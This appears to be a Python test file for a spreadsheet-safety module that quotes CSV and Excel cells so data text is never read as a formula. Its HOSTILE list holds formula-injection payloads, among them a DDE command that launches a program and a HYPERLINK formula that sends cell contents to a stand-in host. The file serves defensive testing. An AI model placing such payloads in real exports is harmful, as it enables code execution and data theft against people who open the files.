"""Cells safe for spreadsheets: no text from the data is read as a formula (issue 10)."""

import csv
import io
import re

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.core.cells import (
    DANGEROUS_PREFIXES,
    becomes_formula,
    csv_text,
    spreadsheet_safe,
    starts_formula,
    write_cell,
)

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "-", "=", "Palu;=1+1", "Palu\r=1+1", "Palu\n=1+1", "Palu,\r\n@x",
           'Palu; "=1+1"', 'a";=1']
NORMAL = ["Palu", "Universitas Tadulako", "Manajemen (M.01)", "ASN-0a1b2c3d4e5f", "", "a = b", "1-2", "3,5"]


def _cells(text: str) -> list[str]:
    """Every cell of a CSV text as a spreadsheet set to a comma or a semicolon list separator would
    split it, taking a carriage return outside quotes for the end of a row."""
    out = []
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text.replace("\r\n", "\n").replace("\r", "\n"), newline=""),
                              delimiter=delimiter):
            out += row
    return out


def _plain_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("text", HOSTILE)
def test_every_dangerous_text_gets_the_quote(text):
    safe = csv_text(text)
    # the quote, and a lone carriage return as a line feed (so that the CSV writer quotes the cell)
    assert safe != text and safe.replace("'", "") == re.sub("\r(?!\n)", "\n", text.replace("'", ""))
    cells = _cells(pd.DataFrame({"name": [safe]}).to_csv(index=False))
    assert not any(c.lstrip('" ').startswith(DANGEROUS_PREFIXES) for c in cells)


@pytest.mark.parametrize("text", NORMAL + ["-5", "+5", "-0.25", "-1,5", "-1e3", "+62"])
def test_normal_text_and_numbers_in_text_are_unchanged(text):
    assert csv_text(text) == text and not starts_formula(text)


def test_values_that_are_not_text_are_never_touched():
    for v in (-5, -0.5, np.int64(-3), np.float64(-1.5), None, np.nan, pd.NA, True):
        assert csv_text(v) is v


def test_csv_of_a_frame_has_no_cell_a_spreadsheet_reads_as_a_formula():
    n = len(HOSTILE)
    df = pd.DataFrame({
        "name": HOSTILE,
        "region": pd.array(HOSTILE, dtype="string"),
        "provider": pd.Categorical(HOSTILE[::-1]),
        "mixed": [(-1.5 if k % 2 else t) for k, t in enumerate(HOSTILE)],  # text and negative numbers
        "change": np.arange(n) - n,  # negative numbers stay numbers
        "gap": np.linspace(-2.0, 1.0, n),
    })
    df.columns = ["=name", "region", "provider", "mixed", "change", "gap"]
    before = df.copy()
    out = spreadsheet_safe(df)
    pd.testing.assert_frame_equal(df, before)  # the frame given is left alone
    text = out.to_csv(index=False, float_format="%.6g")
    cells = _cells(text)
    assert not [c for c in cells if c.lstrip('" ').startswith(DANGEROUS_PREFIXES) and not _plain_number(c)]
    back = pd.read_csv(io.StringIO(text))
    assert back["change"].tolist() == list(np.arange(n) - n) and back["gap"].min() == -2.0
    assert (back["mixed"][1::2].astype(float) == -1.5).all()
    assert out["region"].dtype == df["region"].dtype
    assert back["'=name"].tolist() == [csv_text(t) for t in HOSTILE]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n;\"' a1.,e")), max_size=8),
                          st.text(max_size=6), st.none(), st.integers(), st.floats(allow_nan=True)), max_size=12),
       st.sampled_from([object, "str"]))
def test_the_vectorised_filter_passes_every_value_the_quote_would_change(values, dtype):
    """A frame's text cells are checked one by one only where a regular expression over the whole
    column finds a dangerous first character, a carriage return, a ';' or a line feed: it never
    misses a cell ``csv_text`` changes, so the frame written is the one a check of every cell gives."""
    from analysis.core.cells import csv_may_change

    if dtype == "str":
        values = [v for v in values if v is None or isinstance(v, str)]
    column = pd.Series(values, dtype=dtype)
    passed = list(csv_may_change(column))
    assert all(v in passed for v in column if isinstance(v, str) and csv_text(v) != v)
    expected = [csv_text(v) if isinstance(v, str) else v for v in column.astype(object)]
    got = spreadsheet_safe(column.to_frame("c"))["c"].astype(object)
    assert [g if isinstance(g, str) else None for g in got] == [e if isinstance(e, str) else None for e in expected]


def test_index_and_column_labels_are_cells_too():
    df = pd.DataFrame({"=SUM(A1)": [1, -2]}, index=pd.Index(["@a", "Palu"], name="region"))
    cells = _cells(spreadsheet_safe(df).to_csv())
    assert "'=SUM(A1)" in cells and "'@a" in cells and "-2" in cells
    wide = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("n", "=x"), ("n", "Palu")]))
    assert list(spreadsheet_safe(wide).columns) == [("n", "'=x"), ("n", "Palu")]


def test_normal_frames_come_back_as_they_are_byte_for_byte():
    df = pd.DataFrame({"region": NORMAL, "n": range(len(NORMAL)), "estimate": np.linspace(-1, 1, len(NORMAL)),
                       "kind": pd.Categorical(["a", "b"] * 4), "change": ["-1", "+2", "-0.5", "0"] * 2})
    assert spreadsheet_safe(df) is df
    empty = df.iloc[:0]
    assert spreadsheet_safe(empty) is empty


def test_workbook_cells_from_data_are_text_and_only_own_formulas_are_formulas(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    values = HOSTILE + ["#N/A"] + NORMAL + ["bad\x1bcontrol"]
    for i, v in enumerate(values, start=1):
        write_cell(ws, i, 1, v)
        write_cell(ws, i, 2, -float(i))  # numbers stay numbers
    ws.cell(row=1, column=3, value="=SUM(B1:B3)")  # the workbook's own formula
    write_cell(ws, 1, 4, None)
    wb.save(tmp_path / "t.xlsx")
    back = openpyxl.load_workbook(tmp_path / "t.xlsx")
    cells = [c for row in back.active.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == ["C1"]
    assert not [c for c in cells if c.data_type == "e"]
    col_a = [back.active.cell(row=i, column=1) for i in range(1, len(values) + 1)]
    # the text is kept as it is (XML reads a carriage return back as a line feed); a control character
    # a worksheet cannot hold becomes U+FFFD instead of failing the whole workbook
    assert [c.value for c in col_a] == [v.replace("\r\n", "\n").replace("\r", "\n") or None
                                        for v in values[:-1]] + ["bad\ufffdcontrol"]
    assert all(c.data_type == "s" for c in col_a if c.value is not None)
    assert all(c.quotePrefix for c in col_a if starts_formula(c.value))
    assert not any(c.quotePrefix for c in col_a[len(HOSTILE) + 1:])  # normal text: no style of its own
    assert [back.active.cell(row=i, column=2).value for i in (1, 2)] == [-1.0, -2.0]


def test_write_cell_writes_normal_values_as_ws_cell_does():
    wb = openpyxl.Workbook()
    ws = wb.active
    for i, v in enumerate(NORMAL + [-3, 2.5, None, True], start=1):
        a, b = ws.cell(row=i, column=1, value=v), write_cell(ws, i, 2, v)
        assert (a.value, a.data_type, a.style_id) == (b.value, b.data_type, b.style_id)


def test_what_openpyxl_would_turn_into_a_formula():
    assert becomes_formula("=1+1") and becomes_formula("#N/A")
    assert not any(becomes_formula(v) for v in ("=", "+1+2", "Palu", 5, None))


def test_sample_xlsx_export_keeps_text_as_text(tmp_path):
    from analysis.synth.writer import write_xlsx

    df = pd.DataFrame({"name": ["=1+1", "#DIV/0!", "Palu", None], "n": [-1, 2, 3, 4]})
    write_xlsx(df, tmp_path / "t.xlsx", "t")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [c.value for c in ws["A"]] == ["name", "=1+1", "#DIV/0!", "Palu", None]
    assert not any(c.data_type in ("f", "e") for row in ws.iter_rows() for c in row)
    assert [c.value for c in ws["B"]][1:] == [-1, 2, 3, 4]
